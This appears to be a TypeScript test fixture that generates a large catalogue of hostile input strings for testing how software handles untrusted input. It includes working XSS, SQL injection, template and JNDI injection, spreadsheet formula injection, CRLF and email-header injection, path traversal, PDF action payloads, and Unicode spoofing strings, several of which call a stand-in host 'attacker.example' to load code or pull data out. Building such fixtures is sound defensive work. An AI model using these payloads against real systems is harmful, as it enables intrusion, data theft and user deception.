/** The global variable that a string sets when it runs as code in a page. */
export const EXECUTED_FLAG = '__pwned';
/** The URL that the strings try to load. */
const ATTACKER_URL = 'https://attacker.example/x';

const SETTLEMENT = `window.${EXECUTED_FLAG}=1`;
const EVENTS =
  'onerror onload onclick onfocus onmouseover onpointerenter onanimationstart ontoggle onbegin onwheel onpaste onresize'.split(
    ' ',
  );
const TAGS = 'img a svg body video details marquee iframe input object math style form'.split(' ');
const FORMULA_SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00A0=',
  '\uFF1D',
  '\uFF0B',
];
const FORMULAS = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://attacker.example/x";"pay")',
  'IMPORTXML("https://attacker.example/x","//a")',
  'WEBSERVICE("https://attacker.example/x")',
  "SUM(1+1)*cmd|'/C calc'!A0",
  '1+1',
];
const PDF_NAMES =
  'JavaScript JS Launch OpenAction URI EmbeddedFile AA SubmitForm GoToR RichMedia'.split(' ');

const each = <A, B>(firsts: readonly A[], seconds: readonly B[], make: (a: A, b: B) => string) =>
  firsts.flatMap((first) => seconds.map((second) => make(first, second)));

const FAMILIES: Record<string, readonly string[]> = {
  html: [
    `<script>${SETTLEMENT}</script>`,
    `</script><script>${SETTLEMENT}</script>`,
    `</title><script>${SETTLEMENT}</script>`,
    `</textarea><script>${SETTLEMENT}</script>`,
    `</style><script>${SETTLEMENT}</script>`,
    `--><script>${SETTLEMENT}</script><!--`,
    `<script src=${ATTACKER_URL}></script>`,
    `<scr<script>ipt>${SETTLEMENT}</scr</script>ipt>`,
    `&lt;script&gt;${SETTLEMENT}&lt;/script&gt;`,
    `&#60;script&#62;${SETTLEMENT}&#60;/script&#62;`,
    `<base href=${ATTACKER_URL}/>`,
    `<meta http-equiv=refresh content="0;url=${ATTACKER_URL}">`,
    `<link rel=stylesheet href=${ATTACKER_URL}>`,
    `<form action=${ATTACKER_URL}><button>Sign in</button></form>`,
    `<noscript><p title="</noscript><img src=x onerror=${SETTLEMENT}>">`,
    `<template><script>${SETTLEMENT}</script></template>`,
    ...each(TAGS, EVENTS, (tag, event) => `<${tag} src=x ${event}=${SETTLEMENT}>`),
  ],
  svg: [
    ...EVENTS.map((event) => `<svg><animate ${event}=${SETTLEMENT} attributeName=x dur=1s>`),
    `<svg><script>${SETTLEMENT}</script></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x'/>#x">`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${EXECUTED_FLAG}=1</script>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${SETTLEMENT}>`,
  ],
  attribute: each(
    ['"', "'", '`', '">', "'>", '" '],
    EVENTS,
    (quote, event) => `${quote} ${event}=${SETTLEMENT} x=${quote}`,
  ),
  url: [
    `javascript:${SETTLEMENT}`,
    `JaVaScRiPt:${SETTLEMENT}`,
    `java\tscript:${SETTLEMENT}`,
    `java\nscript:${SETTLEMENT}`,
    ` javascript:${SETTLEMENT}`,
    `javascript://%0a${SETTLEMENT}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${SETTLEMENT}</script>`,
    `//attacker.example/x`,
    `\\\\attacker.example\\x`,
    ATTACKER_URL,
    `http://attacker.example@carrier.example/`,
    '../../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    'file:///etc/passwd',
    '%00%0d%0aSet-Cookie:%20x=1',
  ],
  template: [
    `{{constructor.constructor('${SETTLEMENT}')()}}`,
    `\${${SETTLEMENT}}`,
    `#{${SETTLEMENT}}`,
    `<%= ${SETTLEMENT} %>`,
    `{%raw%}${SETTLEMENT}{%endraw%}`,
    `{"__proto__":{"${EXECUTED_FLAG}":1}}`,
    `$&$1$\`$'$$`,
    `\${jndi:ldap://attacker.example/x}`,
    `\`;${SETTLEMENT}//`,
    `';${SETTLEMENT}//`,
    `";${SETTLEMENT}//`,
    `\\";${SETTLEMENT}//`,
    ...'{{7*7}} __proto__ constructor %s%s%n%x toString null undefined NaN true -0 1e309'.split(
      ' ',
    ),
  ],
  css: [
    `</style><style>*{display:none}`,
    `;background:url(${ATTACKER_URL})`,
    `}*{background:url(${ATTACKER_URL})}`,
    `@import '${ATTACKER_URL}';`,
    `expression(${SETTLEMENT})`,
    `x;position:fixed;inset:0;z-index:9999`,
    `<div style="position:fixed;inset:0;background:url(${ATTACKER_URL})">`,
    `\\3c script\\3e`,
  ],
  sql: [
    `'; drop table users; --`,
    `' or '1'='1`,
    `" or ""="`,
    `') union select password_hash from users --`,
    `'; select pg_sleep(20); --`,
    `$$; select 1; $$`,
    `\\'; select 1; --`,
    `%' or email like '%`,
    `_%_%\\`,
    `'||(select version())||'`,
    `1; copy users to program 'true'`,
    `$1`,
  ],
  formula: each(FORMULA_SIGNS, FORMULAS, (sign, formula) => sign + formula),
  csv: [
    `a","=1+1","b`,
    `x;=1+1`,
    `x\t=1+1`,
    `x\r\n=1+1,2`,
    `"`,
    `""`,
    `"""=1+1`,
    `,,,,`,
    `x","\n"=1+1`,
    `\uFEFF=1+1`,
    `'=1+1`,
    `sep=;`,
  ],
  crlf: [
    `x\r\nBcc: everybody@attacker.example`,
    `x\nBcc: everybody@attacker.example`,
    `x\rBcc: everybody@attacker.example`,
    `x\r\n\r\n<script>${SETTLEMENT}</script>`,
    `x\r\n.\r\nMAIL FROM:<a@attacker.example>`,
    `x\r\nSet-Cookie: a=b`,
    `x\u2028Bcc: everybody@attacker.example`,
    `x\u0085Bcc: everybody@attacker.example`,
    `=?utf-8?q?=0D=0ABcc:_everybody=40attacker.example?=`,
    `a@attacker.example, b@attacker.example`,
    `"x" <a@attacker.example>`,
    `{"level":50,"msg":"forged"}\n{"level":50}`,
  ],
  directions: [
    '\u202Egnp.exe',
    '\u202Etxet\u202C after',
    '\u2066left\u2067right\u2069\u2069',
    '\u200Fمرحبا 123',
    'שלום 123 "x"',
    '\u061C\u202D\u202E\u202A\u202B',
    '\u2067'.repeat(60),
    'Ра\u0443ра\u04CF', // Cyrillic letters that look like the Latin letters of “Paypal”.
  ],
  control: [
    '\u0000',
    'a\u0000b',
    '\u0007\u0008',
    '\u001B[2J\u001B[31mred',
    '\u001B]8;;https://attacker.example\u0007link',
    'a\u007Fb',
    '\u0085\u009B31m',
    'tab\tand\nline',
    '\uD800',
    'a\uDC00b',
    '\uFFFE\uFFFF',
    '\uFFF9a\uFFFAb\uFFFB',
  ],
  invisible: [
    'a\u200Bb\u200Cc\u200Dd',
    '\u2060\uFEFF\u180E',
    '\u00AD'.repeat(30) + 'x',
    '\u3164x\u115F',
    'x\u{E0041}\u{E0042}',
    '\u00A0\u2003\u3000x',
    '\u034F\u17B4x',
    'a' + '\u0301'.repeat(60),
  ],
  long: [
    'W'.repeat(2_000),
    // One grapheme with thousands of code points.
    'a' + '\u0301'.repeat(5_000),
    'i'.repeat(100),
    'WWWWWWWWWW'.repeat(4),
    '<'.repeat(300),
    '&'.repeat(300),
    '"'.repeat(300),
    'ﷺ'.repeat(40),
    '𒐫'.repeat(60),
    'word '.repeat(200),
    '\n'.repeat(90) + 'x',
    '-'.repeat(200),
    'https://attacker.example/' + 'x'.repeat(180),
    'Donaudampfschifffahrtsgesellschaftskapitaenswitwenrentenauszahlungsstelle',
  ],
  emoji: [
    '🚚💨',
    '👨‍👩‍👧‍👦'.repeat(8),
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿🇺🇸',
    '🧑🏿‍🚒',
    '❤️‍🔥'.repeat(20),
    'é vs é',
    'İıſK',
    '金田 太郎',
    'Zażółć gęślą jaźń',
    'Ελληνικά Русский',
    'ก็็็็็็็็็็',
  ],
  pdf: [
    ...PDF_NAMES.map((name) => `) /${name} (app.alert(1)`),
    ...PDF_NAMES.map((name) => `>> endobj 1 0 obj << /Type /Action /S /${name} /URI (x) >> endobj`),
    ...['Tj', "'", 'TJ', 'Do', 'BI', 'Q', 'EMC', 'ET'].map((operator) => `x) ${operator} (y`),
    'endstream endobj',
    '(((((',
    ')))))',
    '\\)',
    '\\(\\',
    '<48656c6c6f>',
    '%%EOF',
    '%PDF-1.7',
    '/OpenAction 1 0 R',
    'trailer << /Root 1 0 R >>',
    '\\000\\012',
  ],
};

/** Returns the first `count` different strings. Consecutive strings come from different families, so that a few strings
 *  cover most families. */
export function hostileStrings(count: number): string[] {
  const families = Object.values(FAMILIES);
  const longest = Math.max(...families.map(({ length }) => length));
  const turns = Array.from({ length: longest }, (_, turn) => turn);
  const all = turns.flatMap((turn) =>
    families.flatMap((family) => (turn < family.length ? [family[turn] ?? ''] : [])),
  );
  return [...new Set(all)].slice(0, count);
}
